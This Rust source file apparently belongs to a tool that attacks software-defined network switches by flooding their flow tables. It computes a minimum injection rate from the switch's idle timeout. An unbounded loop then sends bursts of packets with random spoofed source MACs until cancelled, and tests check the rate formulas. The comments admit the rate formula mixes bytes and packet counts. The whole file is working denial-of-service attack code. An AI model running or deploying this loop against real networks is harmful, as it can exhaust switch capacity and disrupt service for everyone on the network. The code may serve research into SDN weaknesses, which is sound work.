//! `AttackPlanner`: minimum injection rate and the unbounded send loop.
//!
//! Each packet carries a fresh random source MAC, so each one creates a new
//! flow-table entry; sustaining `rate` packets/second for at least `t_idle`
//! seconds keeps enough concurrent entries alive to exceed the switch's
//! flow-table capacity (spec.md §4.7).

use std::net::Ipv4Addr;

use crate::cancel::CancelToken;
use crate::classifier::AttackCategory;
use crate::error::ProbeError;
use crate::mac::MacIdentity;
use crate::packet::{PacketIo, ProbePacket};

/// The buffer added to compensate for time spent crafting the next burst.
const GENERATION_BUFFER_PPS: u32 = 100;

pub struct AttackPlan {
    pub packets_per_second: u32,
    pub batch_size: usize,
    pub batch_period: std::time::Duration,
}

/// Computes the minimum injection rate for `category`, given a per-packet
/// payload length `payload_len` (bytes) and burst size `max_count`.
///
/// Preserves the reference's literal arithmetic: `payload_len` (bytes) and
/// `max_count` (packets) are combined as if interchangeable, and the result
/// is consumed downstream as packets-per-second regardless (spec.md §9.3).
pub fn min_attack_rate(
    category: AttackCategory,
    payload_len: u32,
    max_count: u32,
    t_idle: u64,
) -> Result<AttackPlan, ProbeError> {
    match category {
        AttackCategory::NoTimeout | AttackCategory::HardOnly => {
            Err(ProbeError::AttackCategoryInvalid(category.as_u8()))
        }
        AttackCategory::IdleOnly => {
            let rate = category3_rate(payload_len, max_count, t_idle);
            Ok(plan(rate, max_count))
        }
        AttackCategory::Both => {
            let mut rate = category3_rate(payload_len, max_count, t_idle);
            if rate % 2 != 0 {
                rate += 1;
            }
            Ok(plan(rate, max_count))
        }
    }
}

fn category3_rate(payload_len: u32, max_count: u32, t_idle: u64) -> u32 {
    // Integer division, matching the reference's literal arithmetic
    // (spec.md §9.3): `(maxCount-1)*L` and `t_idle` are not floating-point.
    let total = (max_count - 1) as u64 * payload_len as u64;
    let rate = total / t_idle + GENERATION_BUFFER_PPS as u64;
    rate as u32
}

fn plan(packets_per_second: u32, batch_size: u32) -> AttackPlan {
    AttackPlan {
        packets_per_second,
        batch_size: batch_size as usize,
        batch_period: std::time::Duration::from_secs_f64(batch_size as f64 / packets_per_second as f64),
    }
}

/// Runs the unbounded injection loop: build a fresh burst of `plan.batch_size`
/// packets, each with a random source MAC and ICMP id, and hand it to
/// `io.pacing_send` at `plan.packets_per_second`. Returns only when `cancel`
/// is tripped (the reference loops forever).
pub fn run_attack_loop(
    io: &mut dyn PacketIo,
    plan: &AttackPlan,
    dst_ip: Ipv4Addr,
    src_ip: Ipv4Addr,
    cancel: &CancelToken,
) {
    loop {
        if cancel.is_cancelled() {
            return;
        }
        let mut batch = Vec::with_capacity(plan.batch_size);
        for _ in 0..plan.batch_size {
            let mac = MacIdentity::random();
            batch.push(ProbePacket::new(mac.to_bytes(), src_ip, dst_ip));
        }
        io.pacing_send(&batch, plan.packets_per_second);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn s5_category_three_rate() {
        let plan = min_attack_rate(AttackCategory::IdleOnly, 1, 1000, 10).unwrap();
        assert_eq!(plan.packets_per_second, 199);
    }

    #[test]
    fn s6_category_four_rate_is_even() {
        let plan = min_attack_rate(AttackCategory::Both, 1, 1000, 10).unwrap();
        assert_eq!(plan.packets_per_second, 200);
    }

    #[test]
    fn categories_one_and_two_are_rejected() {
        assert!(matches!(
            min_attack_rate(AttackCategory::NoTimeout, 1, 1000, 10),
            Err(ProbeError::AttackCategoryInvalid(1))
        ));
        assert!(matches!(
            min_attack_rate(AttackCategory::HardOnly, 1, 1000, 10),
            Err(ProbeError::AttackCategoryInvalid(2))
        ));
    }

    proptest::proptest! {
        #[test]
        fn rate_is_monotonically_decreasing_in_t_idle(t_idle in 1u64..10_000) {
            let faster = min_attack_rate(AttackCategory::IdleOnly, 1, 1000, t_idle).unwrap();
            let slower = min_attack_rate(AttackCategory::IdleOnly, 1, 1000, t_idle + 1).unwrap();
            proptest::prop_assert!(faster.packets_per_second >= slower.packets_per_second);
        }

        #[test]
        fn category_four_rate_is_always_even(t_idle in 1u64..10_000) {
            let plan = min_attack_rate(AttackCategory::Both, 1, 1000, t_idle).unwrap();
            proptest::prop_assert_eq!(plan.packets_per_second % 2, 0);
        }
    }
}
